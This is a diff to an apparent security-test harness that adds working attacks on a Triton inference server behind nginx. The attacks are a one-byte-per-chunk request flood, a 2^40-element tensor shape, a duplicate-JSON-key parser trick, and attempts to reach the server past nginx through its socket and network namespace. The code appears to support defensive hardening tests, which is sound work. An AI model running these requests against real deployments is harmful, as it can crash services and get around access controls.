@@ -4,6 +4,11 @@ step got; the tests assert on it.
 
     serve HTTP_PORT MODEL MARKER_HEX   the CVE-2025-23319/23320/23334 chain and a read of /dev/shm
     browser PORT                        forge a Chromium runner result, download its model, flood a POST
+    kill PORT MODEL STEPS               issue 25's two requests that killed Triton 2.51: a body in 1,000,455
+                                        one-byte chunks (a valid request of STEPS steps, padded), a shape
+                                        of [1, 2^40, 2] (also hidden behind a repeated key)
+    reach SOCKET TRITON_PID             try to reach Triton's port past nginx: the gate's socket, the
+                                        server's network namespace
 """
 
 from __future__ import annotations
@@ -12,6 +17,7 @@ import http.client
 import json
 import os
 import re
+import socket
 import sys
 from pathlib import Path
 
@@ -100,10 +106,74 @@ def attack_browser(port: int) -> dict:
     return result
 
 
+CHUNKS = 1_000_455
+
+
+def steps_input(steps: int) -> list[float]:
+    """The input of the chunked request, [1, steps, 2] row-major (the test recomputes it)."""
+    return [((i * 7) % 17) / 17 - 0.5 for i in range(steps * 2)]
+
+
+def chunked(port: int, path: str, body: bytes) -> tuple[int, str]:
+    """POST `body` as Transfer-Encoding: chunked, one byte per chunk, on a raw socket."""
+    head = (f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
+            "Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n").encode()
+    framed = b"".join(b"1\r\n" + body[i:i + 1] + b"\r\n" for i in range(len(body))) + b"0\r\n\r\n"
+    with socket.create_connection(("127.0.0.1", port), timeout=60) as sock:
+        try:
+            sock.sendall(head + framed)
+        except OSError as exc:  # refused early (413) and closed: the answer is still there to read
+            error = type(exc).__name__
+        else:
+            error = ""
+        response = http.client.HTTPResponse(sock)
+        try:
+            response.begin()
+            return response.status, response.read().decode("utf-8", "replace")
+        except (OSError, http.client.HTTPException) as exc:
+            return 0, error or type(exc).__name__
+
+
+def attack_kill(port: int, model: str, steps: int) -> dict:
+    path = f"/v2/models/{model}/infer"
+    request = {"inputs": [{"name": "input", "shape": [1, steps, 2], "datatype": "FP32", "data": steps_input(steps)}]}
+    body = json.dumps(request).encode()
+    body += b" " * (CHUNKS - len(body))  # JSON allows the padding: the body of issue 25's request
+    result = {"chunks": len(body), "chunked": chunked(port, path, body)}
+    huge = {"inputs": [{"name": "input", "shape": [1, 2**40, 2], "datatype": "FP32", "data": [1]}]}
+    result["huge_shape"] = call(port, "POST", path, json.dumps(huge).encode())
+    # The same shape first and a good one last: Python's parser keeps the last, Triton's the first.
+    repeated = ('{"inputs": [{"name": "input", "shape": [1, 1099511627776, 2], "datatype": "FP32", '
+                '"data": [0, 0, 0, 0, 0, 0], "shape": [1, 3, 2]}]}')
+    result["repeated_key"] = call(port, "POST", path, repeated.encode())
+    return result
+
+
+def attack_reach(socket_path: str, server_pid: int) -> dict:
+    """What another user gets trying to reach Triton without nginx."""
+    result = {}
+    with socket.socket(socket.AF_UNIX) as sock:
+        try:
+            sock.connect(socket_path)
+            result["gate_socket"] = "connected"
+        except OSError as exc:
+            result["gate_socket"] = type(exc).__name__
+    try:
+        os.open(f"/proc/{server_pid}/ns/net", os.O_RDONLY)
+        result["netns"] = "opened"
+    except OSError as exc:
+        result["netns"] = type(exc).__name__
+    return result
+
+
 if __name__ == "__main__":
     kind = sys.argv[1]
     if kind == "serve":
         out = attack_serve(int(sys.argv[2]), sys.argv[3], bytes.fromhex(sys.argv[4]))
+    elif kind == "kill":
+        out = attack_kill(int(sys.argv[2]), sys.argv[3], int(sys.argv[4]))
+    elif kind == "reach":
+        out = attack_reach(sys.argv[2], int(sys.argv[3]))
     else:
         out = attack_browser(int(sys.argv[2]))
     out["uid"] = os.getuid()
